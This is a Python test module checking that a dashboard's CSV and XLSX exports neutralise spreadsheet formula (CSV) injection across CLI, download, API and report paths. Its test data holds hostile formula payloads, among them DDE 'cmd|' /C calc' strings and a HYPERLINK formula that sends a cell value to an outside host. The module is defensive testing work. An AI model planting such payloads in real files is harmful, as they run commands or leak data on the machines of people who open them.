"""No file the system writes holds a cell a spreadsheet would run (CSV injection, live XLSX formulas).

Projects and townships named like formulas are imported, then every export path is read back: the CLI
export (CSV and XLSX), the profile's downloads, the API's CSV, the field-sample checklist and the import
problem report. A text cell that starts with ``= + - @``, a tab or a line break leaves with a leading
``'`` and, in XLSX, as a text cell; numbers stay numbers; importing the export gives back the original.
"""
from __future__ import annotations

import base64
import csv
import io
import sqlite3
from dataclasses import replace

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from data.ingest.exporter import export_table
from data.ingest.importer import import_file
from data.store import records
from tests.conftest import ADMIN, sign_in
from tests.test_access import _callback

TESTER = replace(ADMIN, user="test")
COUNTY = "522728000000"
FORMULAS = ('=HYPERLINK("http://example.test/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "-2+3+cmd|' /C calc'!A0", "''=quoted already")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _is_number(text: str) -> bool:
    try:
        float(text.removesuffix("%"))
        return True
    except ValueError:
        return False


def _copy(source_url: str, folder) -> str:
    """A consistent copy of the session's tiny SQLite database (the online backup API: WAL included)."""
    target = folder / "dashboard.db"
    with sqlite3.connect(source_url.removeprefix("sqlite:///")) as source, sqlite3.connect(target) as copy:
        source.backup(copy)
    return f"sqlite:///{target}"


@pytest.fixture(scope="module")
def hostile(tiny_instance, tmp_path_factory):
    """A copy of the tiny instance whose county 522728 has projects and townships named like formulas."""
    from dashboard.app import create_app
    from dashboard.config import Config

    folder = tmp_path_factory.mktemp("hostile")
    config = Config(instance_dir=folder, database_url=_copy(tiny_instance.database_url, folder), mode="demo",
                    login_rate_limit="1000 per minute")
    app = create_app(config)
    engine = app.storage.engine
    projects = records.read_table(engine, ADMIN, "projects")
    mine = projects[projects["county_code"] == COUNTY].head(len(FORMULAS)).copy()
    mine["name"] = FORMULAS
    mine.to_csv(folder / "projects.csv", index=False)
    import_file(app.storage, TESTER, "projects", folder / "projects.csv")
    regions = records.read_table(engine, ADMIN, "regions")
    townships = regions[(regions["parent_code"] == COUNTY) & (regions["level"] == "township")].copy()
    townships["name"] = [FORMULAS[i % 4] for i in range(len(townships))]
    townships.to_csv(folder / "regions.csv", index=False)
    import_file(app.storage, TESTER, "regions", folder / "regions.csv")
    return app


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row]


def _assert_csv_safe(text: str, expected: tuple[str, ...] = FORMULAS[:4]) -> None:
    cells = _csv_cells(text)
    live = [c for c in cells if c[:1] in TRIGGERS and not _is_number(c)]
    assert live == []
    for formula in expected:
        assert "'" + formula in cells, formula


def _assert_xlsx_safe(content: bytes, expected: tuple[str, ...] = FORMULAS[:4]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if c.data_type == "s"]
    assert [t for t in texts if t[:1] in TRIGGERS and not _is_number(t)] == []
    for formula in expected:
        assert "'" + formula in texts, formula


def test_the_imported_names_are_stored_as_written(hostile):
    names = records.read_table(hostile.storage.engine, ADMIN, "projects").set_index("county_code").loc[COUNTY, "name"]
    assert set(FORMULAS[:4]) | {"'=quoted already"} <= set(names)  # the importer takes one quote back off


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_cli_export_holds_no_live_formula(hostile, tmp_path, suffix):
    from dashboard.cli import main

    path = tmp_path / f"projects{suffix}"
    result = CliRunner().invoke(main, ["export", "projects", str(path)],
                                env={"DATABASE_URL": str(hostile.storage.engine.url)})
    assert result.exit_code == 0, result.output
    if suffix == ".csv":
        _assert_csv_safe(path.read_text("utf-8-sig"), FORMULAS[:4] + ("'=quoted already",))
    else:
        _assert_xlsx_safe(path.read_bytes(), FORMULAS[:4] + ("'=quoted already",))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_profile_downloads_hold_no_live_formula(hostile, fmt):
    from callbacks.region_callbacks import download

    answer = download(hostile.storage, ADMIN, {"region": COUNTY}, "projects", fmt)
    content = base64.b64decode(answer["content"])
    if fmt == "csv":
        _assert_csv_safe(content.decode("utf-8-sig"))
    else:
        _assert_xlsx_safe(content)


def test_the_profile_xlsx_keeps_numbers_as_numbers(hostile):
    from callbacks.region_callbacks import download

    answer = download(hostile.storage, ADMIN, {"region": COUNTY}, "key_figures", "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(answer["content"]))).active
    numbers = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row if cell.data_type == "n"
               and cell.value is not None]
    assert numbers and all(isinstance(n, (int, float)) for n in numbers)
    assert any(n < 0 for n in numbers)  # a change downwards: a negative number, written as a number


def test_the_api_csv_holds_no_live_formula(hostile):
    client = sign_in(hostile.server.test_client())
    response = client.get(f"/api/v1/values?metric=monitored_households&parent={COUNTY[:6]}&format=csv")
    assert response.status_code == 200
    _assert_csv_safe(response.get_data(as_text=True))


def test_the_field_sample_checklist_holds_no_live_formula(hostile):
    client = sign_in(hostile.server.test_client())
    response = client.get(f"/api/v1/monitoring/sample?region={COUNTY[:6]}&format=xlsx")
    assert response.status_code == 200
    _assert_xlsx_safe(response.data)


def test_the_problem_report_holds_no_live_formula(hostile):
    admin = sign_in(hostile.server.test_client())
    crafted = [{"row": 2, "column": "name", "value": formula, "reason_zh": "=1+1", "reason_en": "@x"}
               for formula in FORMULAS[:4]]
    answer = _callback(admin, "upload-download.data", [1], [crafted]).get_json()
    data = answer["response"]["upload-download"]["data"]
    content = base64.b64decode(data["content"]).decode("utf-8-sig") if data.get("base64") else data["content"]
    _assert_csv_safe(content)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_exported_file_imports_back_unchanged(hostile, tmp_path, suffix):
    engine = hostile.storage.engine
    for table in ("projects", "regions") if suffix == ".csv" else ("projects",):  # the regions' XLSX is slow
        before = records.read_table(engine, ADMIN, table)
        export_table(engine, ADMIN, table, tmp_path / f"{table}{suffix}")
        result = import_file(hostile.storage, TESTER, table, tmp_path / f"{table}{suffix}")
        assert (result.added, result.updated) == (0, 0), table
        assert records.read_table(engine, ADMIN, table).equals(before), table


# -- the module itself ---------------------------------------------------------------------------------
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n ＝0a1.,"), max_size=8) | st.text(max_size=12))
def test_neutralising_then_restoring_gives_the_text_back(text):
    from data.ingest import spreadsheet

    safe = spreadsheet.neutralise(text)
    assert spreadsheet.restore(safe) == text
    assert safe[:1] not in TRIGGERS or _is_number(safe)


def test_only_text_is_neutralised_and_numbers_stay_numbers():
    from data.ingest import spreadsheet

    frame = pd.DataFrame({"name": ["=1+2", "-5", "普通", None], "change": [-1.5, 2.0, None, -3.0],
                          "count": pd.array([-4, 5, None, 0], dtype="Int64")})
    rows = list(csv.reader(io.StringIO(spreadsheet.csv_bytes(frame).decode("utf-8-sig"))))
    assert rows[1:] == [["'=1+2", "-1.5", "-4"], ["-5", "2.0", "5"], ["普通", "", ""], ["", "-3.0", "0"]]
    sheet = openpyxl.load_workbook(io.BytesIO(spreadsheet.xlsx_bytes({"t": frame}))).active
    values = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=2)]
    assert values[0] == [("'=1+2", "s"), (-1.5, "n"), (-4, "n")]
    assert values[1][0] == ("-5", "s") and values[3][1:] == [(-3.0, "n"), (0, "n")]


def test_text_a_workbook_cannot_hold_does_not_break_the_export():
    from data.ingest import spreadsheet

    frame = pd.DataFrame({"name": ["a\x01b", "#N/A"]})
    sheet = openpyxl.load_workbook(io.BytesIO(spreadsheet.xlsx_bytes({"t": frame}))).active
    assert [(c.value, c.data_type) for c in sheet["A"][1:]] == [("a\ufffdb", "s"), ("#N/A", "s")]
